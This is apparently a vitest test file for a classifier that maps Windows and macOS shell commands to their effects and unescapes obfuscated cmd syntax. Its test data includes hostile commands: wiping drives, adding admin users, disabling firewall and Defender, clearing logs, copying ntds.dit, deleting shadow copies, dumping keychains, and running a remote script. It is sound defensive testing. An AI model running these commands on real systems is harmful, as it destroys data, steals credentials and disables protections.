import { expect, test } from 'vitest'
import { effectsOfProgram } from '../effects-of-program.ts'
import { plainCmd } from './windows.ts'

const meaning = (line: string) => {
  const [program = '', ...words] = line.split(' ')
  return effectsOfProgram(program, words).map(effect => {
    if (effect.type === 'delete' || effect.type === 'read')
      return `${effect.type} ${effect.target.path}${effect.recursive ? ' recursive' : ''}`
    if (effect.type === 'infrastructure') return `${effect.provider} ${effect.verb} ${effect.resource}`
    return 'verb' in effect ? `${effect.type} ${effect.verb}` : effect.type
  })
}

const changes: readonly (readonly [string, string])[] = [
  ['del /s /q C:\\', 'delete / recursive'],
  ['rd /s /q %USERPROFILE%', 'delete /home/user recursive'],
  ['reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x', 'schedule add'],
  ['reg delete HKLM\\Software\\x /f', 'kernel unprotect'],
  ['schtasks /create /tn x /tr y', 'schedule add'],
  ['net user eve secret /add', 'account edit'],
  ['net.exe localgroup administrators eve /add', 'account edit'],
  ['bcdedit /set {default} recoveryenabled no', 'kernel unprotect'],
  ['sc delete backup', 'service disable'],
  ['netsh advfirewall set allprofiles state off', 'firewall flush'],
  ['wevtutil cl System', 'delete /var/log/System'],
  ['esentutl /y c:/windows/ntds/ntds.dit /d x', 'account dump'],
  ['net stop WinDefend', 'service stop'],
  ['cmstp /s a.inf', 'execute'],
  ['wscript http://x.example/a.js', 'execute'],
  ['wmic shadowcopy delete', 'backup delete snapshot'],
  ['security dump-keychain', 'read /home/user/Library/Keychains/login.keychain-db'],
  ['security find-generic-password -s mail -w', 'read /home/user/Library/Keychains/login.keychain-db'],
  ['dscl . -create /Users/eve', 'account create'],
  ['dsenableroot -u a -p b', 'account raise'],
  ['defaults write com.apple.loginwindow LoginHook /tmp/x', 'schedule add'],
  ['xattr -d com.apple.quarantine a.app', 'kernel unprotect'],
]

test.each(changes)('%s is read as %s', (line, expected) => expect(meaning(line)).toEqual([expected]))

const looks = [
  'reg query HKLM\\Software',
  'schtasks /query',
  'net user',
  'bcdedit /enum',
  'sc query',
  'netsh advfirewall show allprofiles',
  'wevtutil el',
  'security find-certificate -a',
  'dscl . -read /Users/me',
  'defaults write com.apple.dock autohide -bool true',
  'xattr -l a.app',
  'log show --last 1h',
]

test.each(looks)('%s changes nothing worth an effect', line => expect(meaning(line)).toEqual([]))

test.each([
  ['r^d /s /q C:\\x', 'rd /s /q C:/x'],
  ['set a=rd&&call %a% /s x', 'set a=rd&&rd /s x'],
  ['set "a=rd" & !a! /s x', 'set "a=rd" & rd /s x'],
  ['for /d %i in (C:\\Users\\*) do rd /s /q %i', 'rd /s /q C:/Users/*'],
  ['for %%f in (a b) do del "%%~f"', 'del "a b"'],
  ['echo x > C:\\Windows\\System32\\drivers\\etc\\hosts', 'echo x > /usr/System32/drivers/etc/hosts'],
  ['echo %PATH%', 'echo %PATH%'],
  ['npm test && echo done', 'npm test && echo done'],
])('%s is read as %s', (line, plain) => {
  expect(plainCmd(line)).toBe(plain)
})

test('settings that double each other end', () => {
  const line = `set a=%a%%a%&${'%a%'.repeat(5_000)}`
  expect(plainCmd(line).length).toBeLessThan(100_000)
})
